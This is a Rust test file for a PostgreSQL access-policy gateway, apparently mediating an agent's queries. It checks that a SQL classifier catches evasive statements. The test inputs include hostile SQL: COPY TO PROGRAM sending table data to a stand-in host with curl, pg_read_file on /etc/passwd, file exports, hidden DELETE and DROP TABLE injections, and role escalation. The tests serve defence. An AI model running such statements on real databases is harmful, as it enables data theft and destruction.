//! The classifier and decisions on statements that have fooled classifiers
//! before. The corpus (tests/policy-corpus) covers the same ground end to end.

use super::{
    classify::{classify, Dialect},
    decide::{decide, Decision, SessionContext},
    facts::{Action, BaselineCheck, Classified, Statement},
    rules::{ObjectPattern, Policy, Rule, RuleKind, Subjects},
};

fn statements(sql: &str) -> Vec<Statement> {
    match classify(sql, Dialect::default()) {
        Classified::Statements(s) => s,
        Classified::Unparsable(why) => panic!("{sql}: {why}"),
    }
}

/// "action target" for every access of every statement.
fn accesses(sql: &str) -> Vec<String> {
    let mut out: Vec<String> = statements(sql)
        .iter()
        .flat_map(|s| {
            s.accesses
                .iter()
                .map(|a| format!("{} {}", a.action, a.target))
        })
        .collect();
    out.sort();
    out
}

fn rule(name: &str, kind: RuleKind, actions: &str, objects: &[&str]) -> Rule {
    Rule {
        name: name.into(),
        kind,
        subjects: Subjects {
            identities: vec!["*".into()],
            groups: vec![],
        },
        actions: actions
            .split(',')
            .filter_map(super::facts::Actions::parse_word)
            .flat_map(|a| a.iter().collect::<Vec<_>>())
            .collect(),
        objects: objects
            .iter()
            .map(|o| ObjectPattern::parse(o).unwrap())
            .collect(),
        functions: vec![],
        languages: vec![],
        fast_path_calls: false,
        require_approval: false,
    }
}

fn reader_policy() -> Policy {
    Policy {
        rules: vec![
            rule("read-app", RuleKind::Allow, "read", &["app.*", "public.*"]),
            rule("no-hr", RuleKind::Deny, "all", &["hr.*"]),
        ],
        overrides: vec![],
    }
}

fn verdict(sql: &str) -> Decision {
    let rules = reader_policy().for_identity("agent", &[]);
    let mut context = SessionContext {
        search_path: vec!["public".into()],
        ..Default::default()
    };
    for statement in statements(sql) {
        let decision = decide(&rules, &statement, &context);
        if !matches!(decision, Decision::Allowed { .. }) {
            return decision;
        }
        context.apply(&statement.effects);
    }
    Decision::Allowed { rules: vec![] }
}

fn refused_by(sql: &str) -> String {
    match verdict(sql) {
        Decision::Refused(r) => r.rule,
        other => panic!("{sql}: expected a refusal, got {other:?}"),
    }
}

#[test]
fn data_modifying_cte_is_a_delete() {
    assert_eq!(
        accesses("WITH gone AS (DELETE FROM app.orders RETURNING *) SELECT * FROM gone"),
        ["delete app.orders"]
    );
}

#[test]
fn cte_names_shadow_tables_only_in_scope() {
    // A non-recursive WITH query's own body sees the real table.
    assert_eq!(
        accesses("WITH secrets AS (SELECT * FROM secrets) SELECT * FROM secrets"),
        ["read secrets"]
    );
    // The CTE of a subquery does not hide the outer table of the same name.
    assert_eq!(
        accesses("SELECT * FROM (WITH t AS (SELECT 1) SELECT * FROM t) a, hr.t, t"),
        ["read hr.t", "read t"]
    );
    assert!(
        accesses("WITH RECURSIVE r AS (SELECT 1 UNION ALL SELECT 1 FROM r) SELECT * FROM r")
            .is_empty()
    );
}

#[test]
fn identifiers_are_judged_as_decoded() {
    assert_eq!(
        accesses(r#"SELECT * FROM U&"\0068r".salaries"#),
        ["read hr.salaries"]
    );
    assert_eq!(
        accesses(r#"SELECT * FROM "HR"."Salaries""#),
        ["read HR.Salaries"]
    );
    assert_eq!(accesses("SELECT * FROM HR.SALARIES"), ["read hr.salaries"]);
    assert_eq!(refused_by(r#"SELECT * FROM U&"\0068r".salaries"#), "no-hr");
}

#[test]
fn comments_and_dollar_quotes_hide_nothing() {
    assert_eq!(
        accesses("SELECT $x$ ; DELETE FROM app.orders $x$ /* ; DROP TABLE t */; DELETE -- x\n FROM app.orders"),
        ["delete app.orders"]
    );
}

#[test]
fn writes_hidden_in_ddl_are_seen() {
    assert_eq!(
        accesses("SELECT * INTO scratch.copy FROM hr.salaries"),
        ["ddl scratch.copy", "read hr.salaries"]
    );
    assert_eq!(
        accesses("CREATE TABLE scratch.c AS SELECT * FROM app.orders"),
        ["ddl scratch.c", "read app.orders"]
    );
    assert_eq!(
        accesses("CREATE RULE r AS ON INSERT TO scratch.t DO ALSO DELETE FROM app.orders"),
        ["ddl scratch.t", "delete app.orders"]
    );
}

#[test]
fn explain_runs_its_statement_only_with_analyze() {
    assert_eq!(
        accesses("EXPLAIN DELETE FROM app.orders"),
        ["read app.orders", "utility EXPLAIN"]
    );
    assert_eq!(
        accesses("EXPLAIN (ANALYZE) DELETE FROM app.orders"),
        ["delete app.orders", "utility EXPLAIN"]
    );
    assert_eq!(
        accesses("EXPLAIN (ANALYZE false) DELETE FROM app.orders"),
        ["read app.orders", "utility EXPLAIN"]
    );
}

#[test]
fn copy_direction_and_baseline() {
    assert_eq!(
        accesses("COPY app.orders FROM STDIN"),
        ["insert app.orders"]
    );
    assert_eq!(accesses("COPY app.orders TO STDOUT"), ["read app.orders"]);
    assert_eq!(
        refused_by("COPY app.orders TO PROGRAM 'curl -d @- evil'"),
        "copy-program"
    );
    assert_eq!(
        refused_by("COPY app.orders FROM '/etc/passwd'"),
        "copy-file"
    );
}

#[test]
fn side_effect_functions_need_grants_wherever_they_hide() {
    for sql in [
        "SELECT lo_export(1, '/tmp/x')",
        "SELECT 1 WHERE pg_read_file('/etc/passwd') IS NULL",
        "SELECT CAST(pg_catalog.pg_ls_dir('/') AS text)",
        "SELECT * FROM app.orders ORDER BY pg_terminate_backend(1)",
        "SELECT * FROM app.orders LIMIT (SELECT length(pg_read_file('x')))",
        "SELECT \"lo_import\"('/etc/passwd')",
        "SELECT public.f()",
        "SELECT 1 OPERATOR(public.###) 2",
    ] {
        assert_eq!(refused_by(sql), "default deny", "{sql}");
    }
    assert!(matches!(
        verdict("SELECT lower(email), now(), random() FROM app.orders"),
        Decision::Allowed { .. }
    ));
}

#[test]
fn settings_the_baseline_pins() {
    for (sql, check) in [
        ("SET search_path = hr", BaselineCheck::SetSearchPath),
        ("SET LOCAL search_path TO hr", BaselineCheck::SetSearchPath),
        ("RESET ALL", BaselineCheck::SetSearchPath),
        ("DISCARD ALL", BaselineCheck::SetSearchPath),
        ("SET ROLE postgres", BaselineCheck::SetRole),
        ("SET SESSION AUTHORIZATION postgres", BaselineCheck::SetRole),
        (
            "SET standard_conforming_strings = off",
            BaselineCheck::SetStandardConformingStrings,
        ),
        ("SET NAMES 'SJIS'", BaselineCheck::SetClientEncoding),
        (
            "SELECT set_config('search_path', 'hr', false)",
            BaselineCheck::SetSearchPath,
        ),
    ] {
        assert_eq!(refused_by(sql), check.name(), "{sql}");
    }
    assert!(matches!(
        verdict("SET statement_timeout = '5s'"),
        Decision::Allowed { .. }
    ));
}

#[test]
fn unqualified_names_resolve_like_the_server() {
    let rules = reader_policy().for_identity("agent", &[]);
    let one = |path: &[&str], sql: &str| {
        let context = SessionContext {
            search_path: path.iter().map(|s| s.to_string()).collect(),
            ..Default::default()
        };
        decide(&rules, &statements(sql)[0], &context)
    };
    assert!(matches!(
        one(&["public"], "SELECT * FROM notes"),
        Decision::Allowed { .. }
    ));
    // A name that may resolve to hr.notes is refused.
    assert!(matches!(
        one(&["public", "hr"], "SELECT * FROM notes"),
        Decision::Refused(_)
    ));
    // pg_catalog is searched first: pg_class is the catalog's, not public's.
    assert!(matches!(
        one(&["public"], "SELECT * FROM pg_class"),
        Decision::Refused(_)
    ));
}

#[test]
fn prepared_statements_and_cursors_must_be_known() {
    assert_eq!(refused_by("EXECUTE p"), "unknown-prepared-statement");
    assert_eq!(refused_by("FETCH 10 FROM c"), "unknown-cursor");
    assert!(matches!(
        verdict("PREPARE p AS SELECT * FROM app.orders; EXECUTE p"),
        Decision::Allowed { .. }
    ));
    assert_eq!(
        refused_by("PREPARE p AS DELETE FROM app.orders"),
        "default deny"
    );
}

#[test]
fn unparsable_and_untrusted() {
    assert!(matches!(
        classify("SELEC 1", Dialect::default()),
        Classified::Unparsable(_)
    ));
    assert!(matches!(
        classify("SELECT 1\0", Dialect::default()),
        Classified::Unparsable(_)
    ));
    assert_eq!(
        refused_by("DO LANGUAGE plpython3u $$ import os $$"),
        "untrusted-language"
    );
}

#[test]
fn standard_conforming_strings_off_is_read_as_the_server_reads_it() {
    // With the setting off, \' escapes the quote and the DELETE is inside the string.
    let sql = r"SELECT 'a\'; DELETE FROM app.orders; --'";
    let off = Dialect {
        standard_conforming_strings: false,
    };
    match classify(sql, off) {
        Classified::Statements(s) => assert!(s
            .iter()
            .all(|s| s.accesses.iter().all(|a| a.action != Action::Delete))),
        Classified::Unparsable(_) => {}
    }
    // With it on (the default the gateway pins), the DELETE is a statement.
    assert!(accesses(sql).contains(&"delete app.orders".to_owned()));
}

#[test]
fn code_bodies_are_judged_statement_by_statement() {
    assert_eq!(
        accesses("DO $$ DECLARE n int; BEGIN n := (SELECT count(*) FROM app.orders); IF n > 0 THEN DELETE FROM hr.salaries; END IF; END $$"),
        ["delete hr.salaries", "read app.orders"]
    );
    assert_eq!(
        accesses("CREATE FUNCTION s.f() RETURNS void LANGUAGE sql AS 'DELETE FROM app.orders'"),
        ["ddl s.f", "delete app.orders"]
    );
    assert_eq!(
        refused_by("DO $$ BEGIN EXECUTE 'DROP TABLE app.orders'; END $$"),
        "unjudgeable"
    );
    let functions = &statements("DO $$ BEGIN PERFORM lo_export(1, '/tmp/x'); END $$")[0].functions;
    assert_eq!(functions[0].name, "lo_export");
}

#[test]
fn upserts_update_and_cascades_reach_further() {
    assert_eq!(
        accesses("INSERT INTO app.t VALUES (1) ON CONFLICT (id) DO UPDATE SET n = 2"),
        ["insert app.t", "update app.t"]
    );
    assert_eq!(
        accesses("INSERT INTO app.t VALUES (1) ON CONFLICT DO NOTHING"),
        ["insert app.t"]
    );
    assert_eq!(
        accesses("TRUNCATE app.t CASCADE"),
        [
            "truncate app.t",
            "truncate objects that depend on it (CASCADE)"
        ]
    );
}

#[test]
fn the_phase_names_the_allow_rules_that_let_a_request_run() {
    use crate::engine::{Phases, Request, Verdict};
    let mut policy = reader_policy();
    policy
        .rules
        .push(rule("write-app", RuleKind::Allow, "insert", &["app.*"]));
    let mut phases = super::session::PolicyPhases::new(
        policy.for_identity("agent", &[]),
        vec!["public".into()],
        Dialect::default(),
    );
    let mut judge = |text: &str| {
        let verdict = phases.classify(&Request::Query { text });
        let allowed = matches!(verdict, Verdict::Allow);
        (allowed, phases.allowed_by().map(str::to_owned))
    };
    assert_eq!(
        judge("SELECT * FROM app.orders"),
        (true, Some("read-app".into()))
    );
    // Each rule once, in the order the statements needed them.
    assert_eq!(
        judge("INSERT INTO app.orders SELECT * FROM app.orders; SELECT 1 FROM app.x"),
        (true, Some("write-app, read-app".into()))
    );
    // A refusal leaves no allow rule behind from the request before.
    assert_eq!(judge("SELECT * FROM hr.salaries"), (false, None));
}

mod properties {
    use proptest::prelude::*;

    use super::super::{
        classify::{classify, Dialect},
        facts::Classified,
        session::PolicyPhases,
    };
    use super::reader_policy;

    /// Statements to cut up and splice: every grammar corner the corpus uses.
    const SEEDS: &[&str] = &[
        "SELECT * FROM app.orders WHERE id = $1",
        "WITH x AS (DELETE FROM app.orders RETURNING *) SELECT * FROM x",
        "SELECT $q$;DELETE FROM hr.salaries$q$, U&\"\\0068r\".x FROM t /* ; */",
        "COPY (SELECT 1) TO PROGRAM 'id'",
        "PREPARE p(int) AS UPDATE app.orders SET n = $1; EXECUTE p(1)",
        "DO $$ BEGIN EXECUTE 'DROP TABLE x'; END $$",
        "CREATE TABLE s.t (a text DEFAULT pg_read_file('/etc/passwd'))",
        "SELECT E'\\'; DROP TABLE t; --'",
        "EXPLAIN (ANALYZE, BUFFERS) SELECT lo_export(1, '/tmp/x')",
        "SET LOCAL search_path = hr, public; RESET ALL",
    ];

    fn judge(text: &str) -> bool {
        let mut phases = PolicyPhases::new(
            reader_policy().for_identity("agent", &[]),
            vec!["public".into()],
            Dialect::default(),
        );
        phases.judge(text, true).is_ok()
    }

    fn spliced() -> impl Strategy<Value = String> {
        (
            prop::sample::select(SEEDS),
            prop::sample::select(SEEDS),
            any::<prop::sample::Index>(),
            any::<prop::sample::Index>(),
            ".{0,8}",
        )
            .prop_map(|(a, b, i, j, noise)| {
                let cut = |s: &str, at: prop::sample::Index| {
                    let mut k = at.index(s.len() + 1);
                    while !s.is_char_boundary(k) {
                        k -= 1;
                    }
                    k
                };
                let (ka, kb) = (cut(a, i), cut(b, j));
                format!("{}{noise}{}", &a[..ka], &b[kb..])
            })
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(2000))]

        /// Arbitrary text never crashes the classifier, and what does not
        /// parse is never allowed.
        #[test]
        fn arbitrary_text(text in ".{0,200}") {
            let unparsable = matches!(classify(&text, Dialect::default()), Classified::Unparsable(_));
            if unparsable {
                prop_assert!(!judge(&text));
            }
        }

        /// Spliced statements: same properties, closer to the grammar.
        #[test]
        fn spliced_statements(text in spliced()) {
            let classified = classify(&text, Dialect::default());
            let off = classify(&text, Dialect { standard_conforming_strings: false });
            if matches!(classified, Classified::Unparsable(_)) {
                prop_assert!(!judge(&text));
            }
            drop(off);
        }
    }
}

#[test]
fn what_the_database_defines_in_the_search_path_needs_grants() {
    let rules = reader_policy().for_identity("agent", &[]);
    let mut catalog = super::catalog::SessionCatalog::default();
    catalog.add_row("f", "lower", "");
    catalog.add_row("o", "+", "");
    catalog.add_row("c", "tag", "app.tag_from_text");
    let context = SessionContext {
        search_path: vec!["public".into()],
        catalog: std::sync::Arc::new(catalog),
        ..Default::default()
    };
    for sql in [
        "SELECT lower(42)",
        "SELECT 'a'::text + 'b'::text",
        "SELECT ('x'::text)::app.tag",
        "SELECT CAST('x' AS app.tag)",
    ] {
        let decision = decide(&rules, &statements(sql)[0], &context);
        assert!(
            matches!(decision, Decision::Refused(_)),
            "{sql}: {decision:?}"
        );
    }
    let decision = decide(&rules, &statements("SELECT upper('x') || 'y'")[0], &context);
    assert!(matches!(decision, Decision::Allowed { .. }), "{decision:?}");
}

/// A FunctionCall message's body: `oid`, `arguments` in binary, a binary result.
fn function_call_body(oid: u32, arguments: &[&[u8]]) -> Vec<u8> {
    let mut body = oid.to_be_bytes().to_vec();
    body.extend(1i16.to_be_bytes());
    body.extend(1i16.to_be_bytes());
    body.extend((arguments.len() as i16).to_be_bytes());
    for argument in arguments {
        body.extend((argument.len() as i32).to_be_bytes());
        body.extend(*argument);
    }
    body.extend(1i16.to_be_bytes());
    body
}

#[test]
fn fast_path_calls_are_judged_as_the_sql_call_of_the_function_their_oid_names() {
    use crate::{
        engine::{Phases, Request, Verdict},
        protocol::frontend::decode_function_call,
    };
    let mut catalog = super::catalog::SessionCatalog::default();
    catalog.add_row("p", "952 23", "pg_catalog.lo_open");
    catalog.add_row("p", "955 23", "pg_catalog.lowrite");
    catalog.add_row("p", "765 23", "pg_catalog.lo_export");
    catalog.add_row("p", "2622 23", "pg_catalog.pg_read_file");
    catalog.add_row("p", "not an oid", "ignored");
    catalog.add_row("p", "953", "no return type: ignored");
    assert_eq!(catalog.functions_by_oid.len(), 4);
    assert_eq!(catalog.functions_by_oid[&952].returns, 23);
    let phases_for = |policy: &Policy| {
        PolicyPhases::new(
            policy.for_identity("agent", &[]),
            vec!["public".into()],
            Dialect::default(),
        )
        .with_catalog(catalog.clone())
    };
    let call = |phases: &mut PolicyPhases, oid: u32, arguments: &[&[u8]]| {
        let body = function_call_body(oid, arguments);
        let call = decode_function_call(&body).expect("a well-formed call");
        match phases.classify(&Request::FunctionCall(call)) {
            Verdict::Allow => Ok(phases.allowed_by().unwrap_or_default().to_owned()),
            Verdict::Refuse(e) => Err(e.message),
            Verdict::Hold(_) => panic!("a fast-path call is never held"),
        }
    };
    use super::session::PolicyPhases;

    // Without an allow rule that has fast_path_calls, every call is refused.
    let mut policy = reader_policy();
    let mut phases = phases_for(&policy);
    let refused = call(&mut phases, 952, &[b"\0\0\0\x01", b"\0\x02\0\0"]).unwrap_err();
    assert!(
        refused.contains("no allow rule lets identity \"agent\" make fast-path function calls"),
        "{refused}"
    );

    // With the gate, a call still needs what its SQL call would: lo_open and lowrite
    // are side-effect built-ins, granted here; lo_export and pg_read_file are not.
    let mut large_objects = rule("large-objects", RuleKind::Allow, "", &[]);
    large_objects.fast_path_calls = true;
    large_objects.functions = ["lo_open", "lowrite"]
        .iter()
        .map(|f| super::rules::FunctionPattern::parse(f).unwrap())
        .collect();
    policy.rules.push(large_objects);
    let mut phases = phases_for(&policy);
    assert_eq!(
        call(&mut phases, 952, &[b"\0\0\0\x01", b"\0\x02\0\0"]),
        Ok("large-objects".to_owned())
    );
    assert!(call(&mut phases, 955, &[b"\0\0\0\0", b"data"]).is_ok());
    for oid in [765, 2622] {
        let refused = call(&mut phases, oid, &[b"\0\0\0\x01", b"/tmp/x"]).unwrap_err();
        assert!(
            refused.contains("(a fast-path call of pg_catalog."),
            "{refused}"
        );
        assert!(refused.contains(&format!("oid {oid})")), "{refused}");
    }
    // An explicit deny rule holds for the call as for SQL.
    let mut deny = rule("no-lowrite", RuleKind::Deny, "", &[]);
    deny.functions = vec![super::rules::FunctionPattern::parse("lowrite").unwrap()];
    policy.rules.push(deny);
    let mut phases = phases_for(&policy);
    let refused = call(&mut phases, 955, &[b"\0\0\0\0", b"data"]).unwrap_err();
    assert!(refused.contains("no-lowrite"), "{refused}");
    // An OID the gateway could not name (a function made after login) is refused.
    let refused = call(&mut phases, 99999, &[]).unwrap_err();
    assert!(
        refused.contains("fast-path call of function oid 99999"),
        "{refused}"
    );
    assert!(refused.contains("cannot be judged"), "{refused}");
}

#[test]
fn a_fast_path_call_stands_for_a_select_of_its_function() {
    use super::catalog::fast_path_sql;
    assert_eq!(
        fast_path_sql("pg_catalog.lo_open", 2),
        "SELECT pg_catalog.lo_open($1, $2)"
    );
    assert_eq!(
        fast_path_sql("\"My Schema\".f", 0),
        "SELECT \"My Schema\".f()"
    );
}

#[test]
fn function_oid_maps_are_shared_by_digest() {
    use super::catalog::{FastPathFunction, SharedFunctionOids};
    use std::{collections::HashMap, sync::Arc};
    let map = |returns: u32| {
        let function = FastPathFunction {
            name: "pg_catalog.lo_open".into(),
            returns,
        };
        Arc::new(HashMap::from([(952, function)]))
    };
    let server = "127.0.0.1:5432".parse().unwrap();
    let shared = SharedFunctionOids::default();
    assert!(shared.get(server, "app", "d1").is_none());
    let read = map(23);
    shared.put(server, "app", "d1".into(), read.clone());
    let known = shared
        .get(server, "app", "d1")
        .expect("the same digest: the same map");
    assert!(Arc::ptr_eq(&known, &read));
    // Another database, or the functions changed since (another digest): read again.
    assert!(shared.get(server, "other", "d1").is_none());
    assert!(shared.get(server, "app", "d2").is_none());
    shared.put(server, "app", "d2".into(), map(26));
    assert_eq!(
        shared.get(server, "app", "d2").expect("kept")[&952].returns,
        26
    );
    assert!(
        shared.get(server, "app", "d1").is_none(),
        "one map per database"
    );
}
